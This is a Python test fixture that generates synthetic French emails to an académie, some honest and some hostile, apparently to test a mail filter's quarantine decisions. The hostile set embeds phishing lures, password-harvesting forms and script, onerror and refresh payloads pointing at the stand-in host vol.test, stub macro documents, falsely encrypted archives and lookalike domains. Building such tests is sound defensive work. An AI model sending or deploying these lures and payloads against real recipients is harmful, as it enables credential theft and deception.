"""Two collections of mail that are made by code: letters to an académie, honest and hostile. None was ever sent."""

import email.message
import email.policy
import email.utils
import io
import itertools
import zipfile
from collections.abc import Iterator, Mapping
from typing import NamedTuple

from tests.stack.support.mail import token

READER = "probe1@ac-exemple.test"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")


class Attached(NamedTuple):
    """A file of a message."""

    name: str
    kind: str
    content: bytes


class Case(NamedTuple):
    """A message, the class that it stands for, and the place where it belongs: empty for an honest one."""

    label: str
    place: str
    message: bytes


def zipped(**files: bytes) -> bytes:
    """An archive; `__` in a name is a dot."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "."), content)
    return buffer.getvalue()


def encrypted(archive: bytes) -> bytes:
    """The archive as one whose files are encrypted, by the bit that says so in both its lists."""
    content = bytearray(archive)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def written(sender: str, subject: str, text: str, *files: Attached, html: str = "", reply: str = "") -> bytes:
    """A whole message to the reader of the tests."""
    message = email.message.EmailMessage(policy=email.policy.SMTP)
    message["Date"], message["Message-ID"] = email.utils.formatdate(localtime=True), f"<{token()}@lointain.test>"
    message["From"], message["To"], message["Subject"] = sender, READER, subject
    if reply:
        message["Reply-To"] = reply
    message.set_content(text, cte="quoted-printable")
    if html:
        message.add_alternative(html, subtype="html", cte="quoted-printable")
    for one in files:
        main, _slash, sub = one.kind.partition("/")
        message.add_attachment(one.content, maintype=main, subtype=sub, filename=one.name)
    return message.as_bytes()


PAGE = "<!DOCTYPE html><html lang=fr><head><title>{0}</title></head><body><h1>{0}</h1><p>{1}</p>{2}</body></html>"
SENDERS = (
    "Claire Martin <claire.martin@mairie-exemple.test>", "Gestion <gestion@ac-voisine.test>",
    "Association Lire <contact@lire.test>", "parent.eleve@lointain.test", '"Éditions du Lycée" <info@editions.test>',
    "Infirmerie <infirmerie@sante.test>", "transports@region.test", "Musée <reservation@musee.test>",
)  # fmt: skip
SUBJECTS = (
    ("Conseil de classe du deuxième trimestre", "Le conseil de la 4e B est avancé à 17 h. Merci de déposer les notes."),
    ("Sortie au musée jeudi", "Départ à 8 h 30, retour vers 16 h. Il manque deux autorisations parentales."),
    ("Certificat médical", "Vous trouverez le certificat de mon fils, absent depuis lundi."),
    ("Convention de stage à signer", "Elle est à retourner avant vendredi. Le mot de passe du réseau est inchangé."),
    ("Facture des manuels", "La facture est jointe. Le règlement se fait par mandat administratif."),
    ("Emploi du temps modifié", "Les cours de M. Petit sont déplacés au mardi. Les élèves sont prévenus."),
    ("Réunion parents-professeurs", "Merci d’indiquer vos créneaux. Votre compte Pronote reste le même."),
    ("Inspection de mathématiques", "L’inspectrice viendra le 12. Une salle avec vidéoprojecteur suffit."),
)  # fmt: skip


def _files() -> Mapping[str, tuple[Attached, ...]]:
    office = zipped(**{"[Content_Types]__xml": b"<Types/>", "word/document__xml": b"<w:document/>"})
    sheet = zipped(**{"[Content_Types]__xml": b"<Types/>", "xl/workbook__xml": b"<workbook/>"})
    page = PAGE.format("Compte rendu", "Le formulaire est à l’accueil.", "<table><tr><td>12</td></tr></table>")
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><circle r='4'/></svg>"
    forwarded = b"From: a@b.test\r\nSubject: avant\r\n\r\nBonjour.\r\n"
    word = OLE + bytes(2000) + "WordDocument".encode("utf-16-le")
    return {
        "nothing": (),
        "pdf": (Attached("document.pdf", "application/pdf", b"%PDF-1.4\ntrailer<</Root 1 0 R>>\n%%EOF\n"),),
        "docx": (Attached("convention.docx", "application/octet-stream", office),),
        "xlsx": (Attached("moyennes.xlsx", "application/octet-stream", sheet),),
        "old doc": (Attached("courrier.doc", "application/msword", word),),
        "zip": (Attached("copies.zip", "application/zip", zipped(copie__pdf=b"%PDF", notes__csv=b"a;b\n")),),
        "page": (Attached("compte-rendu.html", "text/html", page.encode()),),
        "picture": (Attached("logo.svg", "image/svg+xml", svg.encode()),),
        "export": (Attached("eleves.xml", "application/xml", b"<?xml version='1.0'?><E form='4B'/>"),),
        "calendar": (Attached("reunion.ics", "text/calendar", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"),),
        "mail": (Attached("message.eml", "application/octet-stream", forwarded),),
    }  # fmt: skip


BODIES = {
    "plain": "",
    "html": PAGE.format("Bonjour", "Une information de l’établissement.", "<a href='https://www.lire.test/'>Lire</a>"),
    "newsletter": PAGE.format("Lettre", "Répondez.", "<form action='https://www.lire.test/'><input name=q></form>"),
}  # fmt: skip


def honest() -> Iterator[Case]:
    """Letters that strangers write to an académie: each subject with each kind of file and each form of text."""
    for number, ((subject, text), (kind, files), (form, html)) in enumerate(
        itertools.product(SUBJECTS, _files().items(), BODIES.items())
    ):
        for turn in range(2):
            sender = SENDERS[(number + 3 * turn) % len(SENDERS)]
            yield Case(f"{kind}, {form}", "", written(sender, subject, f"Bonjour,\n\n{text}\n", *files, html=html))


ACTIVE = {
    "form": "<form action='https://vol.test/'><input type=password name=p></form>",
    "capitals": "<FORM METHOD=POST ACTION=//vol.test><INPUT NAME=x></FORM>",
    "script": "<script>location='https://vol.test/'</script>",
    "hidden": "<script>document.write(atob('PGZvcm0+'))</script>",
    "event": "<img src=x onerror=\"fetch('//vol.test')\">",
    "slash": "<svg/onload=alert(1)>",
    "frame": "<iframe srcdoc='&lt;form&gt;'></iframe>",
    "link": "<a href='javascript:void(0)'>Ouvrir</a>",
    "refresh": "<meta http-equiv=\"refresh\" content=\"0;url=https://vol.test/\">",
    "data": "<iframe src='data:text/html;base64,PGZvcm0+'></iframe>",
}  # fmt: skip
NAMES = ("facture.html", "FACTURE.HTM", "bulletin.xhtml", "avis.shtml", "logo.svg", "courrier.mht")
LURES = (
    ("Votre messagerie sera fermée", "Ouvrez le fichier joint pour garder votre compte."),
    ("Bulletin de paie de novembre", "Votre bulletin est disponible dans le fichier joint."),
    ("Document partagé avec vous", "Un collègue vous a envoyé un document protégé."),
    ("Facture impayée", "Veuillez régler la facture jointe sous 24 heures."),
)


def hostile() -> Iterator[Case]:
    """Pages that ask or run, macros, archives that cannot be read, domains that look like ours."""
    sender = "Service <service@mechant.test>"
    for (subject, text), (label, active), name in itertools.product(LURES, ACTIVE.items(), NAMES):
        page = PAGE.format("Connexion", "Académie d’Exemple", active)
        for coded in ("utf-8", "utf-16"):
            file = Attached(name, "application/octet-stream", page.encode(coded))
            yield Case(f"page {label} {name} {coded}", "sealed", written(sender, subject, text, file))
    plain = "application/octet-stream"
    disguised = zipped(**{"[Content_Types]__xml": b"<Types/>", "word/vbaProject__bin": b"x"})
    old = OLE + bytes(9000) + "_VBA_PROJECT".encode("utf-16-le") + bytes(300)
    locked = encrypted(zipped(paie__pdf=b"%PDF-1.4" + bytes(40)))
    files = [
        *(("macro", "quarantine", Attached(f"paie.{ending}", plain, b"PK")) for ending in MACROS),
        *(("hidden macro", "sealed", Attached(name, plain, disguised)) for name in ("paie.docx", "paie.xlsx")),
        *(("old macro", "quarantine", Attached(name, plain, old)) for name in ("paie.doc", "paie.xls")),
        ("zip of a macro", "quarantine", Attached("paie.zip", "application/zip", zipped(p__docm=b"PK"))),
        *(("encrypted archive", "quarantine", Attached(name, plain, locked)) for name in ("paie.zip", "dossier.bin")),
    ]
    for subject, text in LURES:
        for label, place, file in files:
            yield Case(label, place, written(sender, subject, text, file))
        for domain in ALIKE:
            yield Case(f"domain {domain}", "quarantine", written(f"DSI <dsi@{domain}>", subject, text))
            yield Case(f"answers to {domain}", "quarantine", written(sender, subject, text, reply=f"dsi@{domain}"))


MACROS = ("docm", "xlsm", "pptm", "xlam", "dotm", "XLSB")
ALIKE = (
    "ac-exemple.com", "ac-exemp1e.test", "acexemple.test", "ac-example.test", "ac-exemlpe.test",
    "ac-exemple-securite.com", "ac-exemple.test.vol.com", "ac-exernple.fr", "ac-exempl.fr",
)  # fmt: skip
